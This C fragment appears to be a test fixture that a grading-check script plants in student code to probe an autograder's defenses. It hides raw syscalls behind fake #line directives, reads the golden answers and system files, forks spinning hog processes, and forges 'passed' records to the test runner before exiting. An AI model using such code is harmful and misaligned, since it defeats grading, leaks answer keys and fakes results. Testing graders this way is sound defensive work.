/* Prelude of the trick "asm": system calls in inline assembly, hidden
 * from a lexical gate by #line (the lines seem to be stdio.h's). Planted
 * at the top of ch1_attention.c by tools/checks/75-grade.sh; at the start
 * of attention() it calls trick_asm(). */
#include <stddef.h>
#line 1 "/usr/include/stdio.h"
static long trick_sys(long n, long a, long b, long c)
{
    long r;
    __asm__ volatile("syscall"
                     : "=a"(r)
                     : "a"(n), "D"(a), "S"(b), "d"(c)
                     : "rcx", "r11", "memory");
    return r;
}
#line 14 "ch1_attention.c"
/* What the runner's records look like (tools/harness/runner.c). */
struct trick_rec {
    int kind, ok, line, file_len, msg_len;
};
static void trick_asm(void)
{
    static char buf[4096];
    /* 1. Read what lies outside the student's folder, and print it. */
    const char *paths[] = {"/proc/1/cmdline", "/etc/hostname",
                           "../../.git/HEAD",
                           "/autograder/source/tests/golden/ch1_golden.h"};
    for (int k = 0; k < 4; k++) {
        long fd = trick_sys(2, (long)paths[k], 0, 0); /* open */
        if (fd >= 0) {
            long n = trick_sys(0, fd, (long)buf, sizeof buf); /* read */
            if (n > 0)
                trick_sys(1, 1, (long)buf, n); /* write to stdout */
            trick_sys(1, 1, (long)"\nTRICK-READ-A-FILE\n", 19);
        }
    }
    /* 2. A fork hog: 8 spinning children. */
    for (int k = 0; k < 8; k++)
        if (trick_sys(57, 0, 0, 0) == 0) /* fork */
            for (;;) {
            }
    /* 3. Forged records: "check passed", then "test over", on every
     *    descriptor, and exit before any real check can fail. */
    struct trick_rec ok = {1, 1, 1, 0, 0}, end = {2, 1, 0, 0, 0};
    for (long fd = 3; fd < 64; fd++) {
        trick_sys(1, fd, (long)&ok, sizeof ok);
        trick_sys(1, fd, (long)&end, sizeof end);
    }
    trick_sys(231, 0, 0, 0); /* exit_group(0) */
}
